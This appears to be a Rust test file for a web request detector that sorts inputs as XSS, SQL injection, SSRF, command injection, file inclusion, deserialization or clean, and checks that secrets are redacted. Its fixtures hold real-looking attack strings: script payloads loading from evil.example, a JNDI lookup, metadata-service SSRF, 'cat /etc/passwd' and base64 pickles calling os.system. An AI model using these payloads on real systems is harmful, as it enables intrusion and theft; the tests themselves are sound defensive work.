//! Values with and without findings.

use super::*;
use crate::guard::inspection::{Part, Walker};

/// A detector of a guard file that blocks.
fn detector() -> Detector {
    Detector::new(&DetectRules { mode: Mode::Block, ..DetectRules::default() })
        .expect("a table that compiles")
}

#[test]
fn guard_11_one_value() {
    let (detector, mut scratch) = (detector(), Scratch::default());
    let mut findings = detector.begin(Some(b"/a"), &mut scratch).unwrap();
    detector.scan(Context::Body, b"q", b"nothing", &mut scratch, &mut findings);
    assert_eq!(findings.result(), DetectionResult::Clean);
    detector.scan(Context::Body, b"q", b"%3Cscript%3Ealert(1)", &mut scratch, &mut findings);
    assert_eq!(findings.result(), DetectionResult::Threat(Category::Xss));
    assert_eq!((findings.found()[0].view, findings.found()[0].score), (View::Decoded, THREAT_SCORE));
}

/// The result on a head.
fn of_head(target: &str, field: Option<(&str, &str)>) -> DetectionResult {
    let (detector, mut scratch) = (detector(), Scratch::default());
    let mut findings = detector.begin(Some(b"/a"), &mut scratch).expect("a path that is not excluded");
    let fields = field.iter().map(|(name, value)| (name.as_bytes(), value.as_bytes()));
    detector.scan_request(Some(target.as_bytes()), fields, &mut scratch, &mut findings);
    findings.result()
}

#[test]
fn guard_11_a_browser_goes_to_its_own_host_and_a_server_does_not() {
    for (target, is_found) in [
        ("/a?redirect_uri=http://localhost:3000/", false),
        ("/a?Redirect_URI=http%3A%2F%2F127.0.0.1%3A8080%2Fcallback", false),
        ("/a?url=http://localhost:3000/", true),
        ("/a?redirect_uri=http://169.254.169.254/latest/meta-data/", true),
        ("/a?redirect_uri=http://192.168.0.1/", true),
        ("/a?success_url=http://localhost:3000/thanks", false),
        ("/a?success_url=http://localhost.evil.example@10.0.0.1/", true),
    ] {
        assert_eq!(of_head(target, None) == DetectionResult::Threat(Category::Ssrf), is_found, "{target}");
    }
}

#[test]
fn guard_11_what_an_editor_names_in_its_protocol_is_no_inclusion() {
    let (detector, mut scratch) = (detector(), Scratch::default());
    for (name, address, is_found) in [
        ("uri", "file:///home/anna/src/app/main.py", false),
        ("rootUri", "file:///c%3A/Users/tom/proj/site", false),
        ("url", "file:///home/anna/src/app/main.py", true),
        ("uri", "file:///home/anna/.ssh/id_rsa", true),
        ("uri", "file:///home/anna/src/../../../etc/app.py", true),
        ("uri", "file:///etc/passwd", true),
        ("uri", "http://127.0.0.1/home/anna/src/main.py", true),
    ] {
        let mut findings = detector.begin(Some(b"/a"), &mut scratch).expect("a path that is not excluded");
        detector.scan(Context::Body, name.as_bytes(), address.as_bytes(), &mut scratch, &mut findings);
        assert_eq!(findings.result() != DetectionResult::Clean, is_found, "{name}: {address}");
    }
    assert_eq!(
        of_head("/a?uri=file:///home/anna/src/main.py", None),
        DetectionResult::Threat(Category::FileInclusion)
    );
}

#[test]
fn ours_11_a_field_that_a_value_has_divided_is_looked_at() {
    let result = of_head("/a", Some(("shop.example%0d%0aSet-Cookie", "sid=1")));
    assert_eq!(result, DetectionResult::Threat(Category::HttpSplit));
    assert_eq!(of_head("/a", Some(("X-100%", "sure"))), DetectionResult::Clean);
}

#[test]
fn ours_11_repeated_names_are_all_scanned() {
    let attack = "1%27%20OR%201%3D1--";
    for place in 0..5 {
        let value = |at| if at == place { attack } else { "plain" };
        let query: Vec<String> = (0..5).map(|at| format!("q={}", value(at))).collect();
        let result = of_head(&format!("/a?{}", query.join("&")), None);
        assert_eq!(result, DetectionResult::Threat(Category::Sqli), "{query:?}");
    }
    assert_eq!(of_head("/a?q=plain&q=plain", None), DetectionResult::Clean);
}

#[test]
fn guard_11_names_of_files_in_fields_are_looked_at() {
    for (name, value, is_found) in [
        ("X-Filename", "shop.php", true),
        ("X_File_Name", "page.jspx..", true),
        ("X.Filename", "photo.jpg", false),
        ("X-Page", "shop.php", false),
    ] {
        let result = of_head("/a", Some((name, value)));
        assert_eq!(result == DetectionResult::Threat(Category::FileUpload), is_found, "{name}: {value}");
    }
}

/// Every attack of the labelled sets, and texts that ask every signature for a hundred different states.
#[test]
fn ours_11_what_a_loop_keeps_is_bounded() {
    use super::automata::{LAZY_BYTES_MAX, STATES_BYTES_MAX};
    use super::views::KEPT_BYTES_MAX;
    let (detector, mut scratch) = (detector(), Scratch::default());
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/detection/attacks");
    let mut attacks = String::new();
    for entry in std::fs::read_dir(folder).expect("the labelled sets") {
        attacks += &std::fs::read_to_string(entry.expect("an entry").path()).expect("a set of UTF-8");
    }
    let mut most = 0;
    let long = attacks.lines().step_by(8).map(|line| line.repeat(60));
    let texts = attacks.lines().step_by(2).map(str::to_owned).chain(long);
    for text in texts {
        let mut findings = detector.begin(Some(b"/a"), &mut scratch).expect("a path that is not excluded");
        detector.scan(Context::Body, b"q", text.as_bytes(), &mut scratch, &mut findings);
        most = most.max(scratch.heap_bytes());
    }
    // The last pattern may exceed the bound by its own states in both directions; then all memory is released.
    let bound = STATES_BYTES_MAX + 2 * LAZY_BYTES_MAX + 5 * KEPT_BYTES_MAX + 64 * 1024;
    assert!((100_000..=bound).contains(&most), "{most} bytes, {bound} at most");
}

#[test]
fn guard_11_what_is_inflated_is_bounded() {
    // A hundred kilobytes of blanks, as gzip.
    let mut coder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut coder, &[b' '; 100_000]).expect("memory takes it");
    let large = coder.finish().expect("memory takes it");
    let large = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, large);
    let small = "H4sIAAAAAAACA7MpTi7KLCixS8xJLSrRMNS00YcKAAB27ib+GQAAAA==";
    for (text, result) in [
        (small.to_owned(), DetectionResult::Threat(Category::Xss)),
        (large, DetectionResult::Exhausted),
        ("H4sIAAAAAAACA6tWSkksSVSyUqguLkktqlWyAgAAAAAAAAA=".to_owned(), DetectionResult::Clean),
    ] {
        let (detector, mut scratch) = (detector(), Scratch::default());
        let mut findings = detector.begin(Some(b"/a"), &mut scratch).expect("a path that is not excluded");
        detector.scan(Context::Body, b"q", text.as_bytes(), &mut scratch, &mut findings);
        assert_eq!(findings.result(), result, "{text}");
    }
}

#[test]
fn guard_11_files_of_deployment_are_no_words() {
    for (target, is_found) in [
        ("/Dockerfile", true),
        ("/Jenkinsfile", true),
        ("/repo/blob/main/Dockerfile", false),
        ("/a?q=Dockerfile", false),
        ("/app/credentials.json", true),
        ("/a?file=config/credentials.yml", true),
        ("/a?file=~/.aws/credentials", true),
        ("/api/auth/callback/credentials", false),
        ("/admin/realms/r/users/1/credentials", false),
        ("/a?tab=credentials", false),
    ] {
        let result = of_head(target, None);
        assert_eq!(result == DetectionResult::Threat(Category::SensitiveFile), is_found, "{target}");
    }
}

/// Behind the name of a command is a blank or a sign that the shell takes for one, and not the rest of a longer word.
#[test]
fn guard_11_a_command_is_no_part_of_a_word() {
    for (value, is_found) in [
        (";cat flag", true),
        (";cat<flag", true),
        (";cat</x", true),
        (";cat /x", true),
        (";cat${IFS}/x", true),
        (";cat${IFS}flag", true),
        ("?page=2&category=flags", false),
        ("?a=1&type=index.php", false),
        ("?id=3&moreinfo.txt", false),
        ("a&copy;shadow", false),
        ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgFlAgCAYAAAC", false),
    ] {
        let result = of_head("/a", Some(("X-A", value)));
        assert_eq!(result == DetectionResult::Threat(Category::CmdInjection), is_found, "{value}");
    }
}

/// Objects in base64, and data in the same formats.
#[test]
fn guard_11_objects_are_told_from_data() {
    for (value, is_found) in [
        // `os.system` in the protocols 1, 2, 4 and 5; one with names from the memo, one with INST, one behind a prefix.
        ("Y3Bvc2l4CnN5c3RlbQpxAChYAgAAAGlkcQF0cQJScQMu", true),
        ("gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==", true),
        ("gASMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", true),
        ("v1.gAWVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", true),
        ("gASMCmltcG9ydGxpYl+UjAhydW5fY29kZZQwaABoAZOMAmlkhVIu", true),
        ("gANjcnVucHkKX3J1bl9jb2RlClgEAAAAaWQoKYVSLg==", true),
        ("gAIoUydpZCcKaWNvbW1hbmRzCmdldG91dHB1dAou", true),
        // An object of Ruby, and a class.
        ("BAhvOghFUkIGOglAc3JjSSIJcHV0cwY6BkVU", true),
        ("BAhbBmMVR2VtOjpTcGVjRmV0Y2hlcg==", true),
        // Data: a dict, and a session of Rails.
        (
            "gAJ9cQAoWAQAAAB1c2VycQFYBAAAAGFubmFxAlgEAAAAbm90ZXEDWBQAAAByZXN0IOKAkyBvZgppcwpmaW5lCnEEdS4=",
            false,
        ),
        ("BAh7B0kiD3Nlc3Npb25faWQGOgZFVEkiCWFiY2QGOwBUSSIMdXNlcl9pZAY7AEZpAjkw", false),
        ("ganeshkumar2024", false),
        ("Gasversorgung2026", false),
        ("bahiaprincipehotelsandresorts", false),
        ("gANEBmquDbWKDKW0UiFn6A", false),
    ] {
        let expected = match is_found {
            true => DetectionResult::Threat(Category::Deserialization),
            false => DetectionResult::Clean,
        };
        assert_eq!(of_head("/a", Some(("Cookie", &format!("s={value}")))), expected, "{value}");
        // There a NUL is a threat, too.
        let in_query = of_head(&format!("/a?q={}", value.replace('+', "%2B")), None);
        assert_eq!(in_query != DetectionResult::Clean, is_found, "{value}");
    }
}

/// A guard file with the same patterns goes on with the automata that there are.
#[test]
fn automata_serve_all_rules_with_the_same_patterns() {
    let before = Detector::new(&DetectRules { mode: Mode::Block, ..DetectRules::default() }).unwrap();
    let other = DetectRules { mode: Mode::Observe, exhausted_blocks: false, ..DetectRules::default() };
    let after = before.with_rules(&other).unwrap();
    assert_eq!(after.rules(), &other);
    let pattern = crate::guard::detection::rules::CustomPattern { name: "a".into(), pattern: "b".into() };
    assert!(before.with_rules(&DetectRules { patterns: vec![pattern], ..other }).is_none());
}

/// Each text that is talk has a neighbour that only looks like talk.
#[test]
fn ours_11_talk_about_an_attack_is_none_and_words_excuse_no_attack() {
    let (detector, mut scratch) = (detector(), Scratch::default());
    let mut is_attack = |text: &str| {
        let mut findings = detector.begin(Some(b"/a"), &mut scratch).expect("a path that is not excluded");
        detector.scan(Context::Body, b"q", text.as_bytes(), &mut scratch, &mut findings);
        findings.result() != DetectionResult::Clean
    };
    for (talk, attack) in [
        ("what is the <script> tag for?", "what is it <script>alert(1)</script> for?"),
        ("do I put <script async> last or first?", "do I put <script async src=//evil.example>?"),
        ("hello there <script> imports", "hello there <script>import'//evil.js'</script>"),
        ("hi all, <script type> is what?", "hi all <script type=module src=a.js>"),
        (
            "please escape <script> and the rest of it",
            "please escape <script>x\nalert(1)</script> and the rest",
        ),
        (
            "how do I escape <img src=x onerror=alert(1)> in a comment?",
            "how do I like <img src=x onerror=alert(1)> in a comment?",
        ),
        (
            "why does <img src=x onerror=alert(1)> run in this query?",
            "why does <img src=x onerror=alert(document.cookie)> run in this query?",
        ),
        (
            "the title `<svg onload=eval(name)>` is shown as it is",
            "the title <svg onload=eval(name)> is shown as it is",
        ),
        (
            "put <pre>&lt;script&gt;go()&lt;/script&gt;</pre> at the end",
            "put <pre><script>alert(1)</script></pre> at the end",
        ),
        ("<button onclick=\"save(this)\">Save</button>", "<button onclick=\"alert(this)\">Save</button>"),
        ("<script src=\"/js/shop.js\"></script>", "<script src=\"/js/shop.js\">alert(1)</script>"),
        (
            "<script src=\"https://code.jquery.com/jquery.min.js\"></script>",
            "<script src=\"https://code.jquery.com.evil.example/jquery.min.js\"></script>",
        ),
        (
            "<script src=\"https://code.jquery.com/jquery.min.js\"></script>",
            "<script src=\"https://unpkg.com/evil@1.0.0/x.js\"></script>",
        ),
        (
            "<script src=\"https://code.jquery.com/jquery.min.js\"></script>",
            "<script src=\"//cdn.jsdelivr.net/gh/evil/x/x.js\"></script>",
        ),
        (
            "<script src=\"https://code.jquery.com/jquery.min.js\"></script>",
            "<script src=\"https://www.googletagmanager.com/gtm.js?id=GTM-EVIL\"></script>",
        ),
        (
            "<script src=\"https://code.jquery.com/jquery.min.js\"></script>",
            "<script src=\"https://code.jquery.com/jquery.js?callback=alert\"></script>",
        ),
        (
            "<script>function open(a) { a.hidden = false }</script>",
            "<script>function open(a) { fetch(a.href) }</script>",
        ),
        ("union select tutorial", "union select 1,2"),
        (
            "my boat is called ' or 1=1 -- and it sails well on the lake",
            "my boat ' or 1=1 -- and it sails well on the lake",
        ),
        (
            "os.system('cls') blinks in the console of my old machine",
            "os.system('cls') # blinks in the console of my old machine",
        ),
        ("group filter: (&(objectclass=group)(cn=a))", "*)(objectclass=group)(cn=a"),
        ("```bash\nls -l | wc -l\n```", "`bash -c id`"),
        ("we keep the old logs; please do not cat them", "we keep the old photos; cat /etc/passwd"),
        ("we strip <img onerror=...> in comments", "we strip <img src=x onerror=alert(1)> in comments"),
        ("for 1 < x and 3 < 10 it holds", "1<2 or 3>2"),
        ("rows where a<2 or b>3 are kept", "a<2 or 1=1"),
        ("what does /etc/passwd contain", "/etc/passwd"),
        ("see file:///home/ann/q3.pdf for the rest", "file:///etc/passwd"),
        ("log4j and ${jndi:ldap://...} explained", "log4j and ${jndi:ldap://evil.example/a} explained"),
        ("in: SELECT a FROM b WHERE c <= 1 UNION SELECT d FROM e", "1 UNION SELECT d FROM e"),
        ("\"union select committee\" of 1994", "\" union select null,null"),
        ("why is `eval(x)` here a bad idea?", "why is ';eval(atob('YQ=='))// here"),
        ("{\"a\":\"../../tsconfig.base.json\"}", "{\"a\":\"../../../tsconfig.base.json\"}"),
        ("set `obj.__proto__ = x` and go on", "__proto__.x"),
        (
            "log:\n one line\n near ''O'Neil' AND active = 1' at line 1\n and go",
            "O' AND active = 1 OR 'a'='a",
        ),
        (
            "our cron:\n0 3 * * 0 /bin/bash -c 'cd /srv'\n5 3 * * 0 curl -fsS http://127.0.0.1/\nand nothing runs",
            "x; /bin/bash -c 'cd /srv'",
        ),
    ] {
        assert!(!is_attack(talk), "{talk}");
        assert!(is_attack(attack), "{attack}");
    }
}

/// The findings in a body of this type.
fn found_in_body(media_type: &str, body: &str) -> Vec<Finding> {
    let (detector, mut scratch) = (detector(), Scratch::default());
    let mut findings = detector.begin(Some(b"/a"), &mut scratch).expect("a path that is not excluded");
    let mut walker = Walker::new([media_type.as_bytes()]);
    let mut take = |part: Part<'_>| detector.scan_part(&part, &mut scratch, &mut findings);
    walker.push(body.as_bytes(), &mut take);
    walker.end(&mut take);
    findings.found().to_vec()
}

#[test]
fn guard_12_previews_show_no_secrets() {
    let (detector, mut scratch) = (detector(), Scratch::default());
    let secret = "s3cr3t' or 1=1-- tail";
    let path = "/a?%70assword=s3cr3t'%20or%201=1--";
    let in_text = format!("password={}{secret}", "x".repeat(200));
    for (target, field) in [
        ("/a", ("Authorization", &*format!("Bearer {secret}"))),
        ("/a", ("AUTHORIZATION", "Basic czNjcjN0JyBvciAxPTEtLSB0YWls")),
        ("/a", ("X-Api-Key", secret)),
        ("/a", ("X-Auth-Token", secret)),
        ("/a", ("Cookie", &format!("a=b; sid={secret}"))),
        ("/a", ("Cookie", &format!("password={secret}"))),
        ("/a", ("Referer", &format!("http://a.example/?token={secret}"))),
        ("/a", ("X-Note", &in_text)),
        (path, ("X-Note", "")),
        ("/a?api_key=s3cr3t%27%20or%201%3d1--", ("X-Note", "")),
    ] {
        let mut findings = detector.begin(Some(b"/a"), &mut scratch).unwrap();
        let fields = [(field.0.as_bytes(), field.1.as_bytes())];
        detector.scan_request(Some(target.as_bytes()), fields, &mut scratch, &mut findings);
        let previews: Vec<&str> = findings.found().iter().map(|finding| &*finding.preview).collect();
        assert!(!previews.is_empty(), "{target} {field:?}");
        for preview in previews {
            assert!(!preview.contains("s3cr3t"), "{target} {field:?}: {preview}");
        }
    }
    for name in ["password", "client_secret", "X_Token", "user[pwd]", "user.sid", "user%5Bauth%5D"] {
        let mut findings = detector.begin(Some(b"/a"), &mut scratch).unwrap();
        detector.scan(Context::Body, name.as_bytes(), secret.as_bytes(), &mut scratch, &mut findings);
        assert_eq!(&*findings.found()[0].preview, "[redacted]", "{name}");
    }
    // What is below a secret is one, too; also in JSON that is a value.
    for (media_type, body) in [
        ("application/json", r#"{"password":{"text":"s3cr3t' or 1=1-- tail"}}"#),
        ("application/json", r#"{"a":[],"tokens":[["b"],{"c":{"d":"s3cr3t' or 1=1-- tail"}}]}"#),
        ("application/json", r#"{"note":"{\"password\":\"s3cr3t' or 1=1-- tail\"}"}"#),
        ("application/json", r#"{"password":"{\"text\":\"s3cr3t' or 1=1-- tail\"}"}"#),
        ("application/x-www-form-urlencoded", r#"q={"password":{"text":"s3cr3t' or 1=1-- tail"}}"#),
    ] {
        let findings = found_in_body(media_type, body);
        assert!(!findings.is_empty(), "{body}");
        for finding in findings {
            assert!(!finding.preview.contains("s3cr3t"), "{body}: {finding:?}");
        }
    }
    let beside = found_in_body("application/json", r#"{"password":{"text":"a"},"note":"x' or 1=1-- tail"}"#);
    assert!(beside.iter().any(|finding| finding.preview.contains("' or 1=1")), "{beside:?}");
    // Other fields show what was found, and where.
    let mut findings = detector.begin(Some(b"/a"), &mut scratch).unwrap();
    let value = format!("{} password=hidden {secret}", "x".repeat(40));
    detector.scan(Context::Body, b"q", value.as_bytes(), &mut scratch, &mut findings);
    assert!(findings.found()[0].preview.contains("' or 1=1"), "{:?}", findings.found());
}
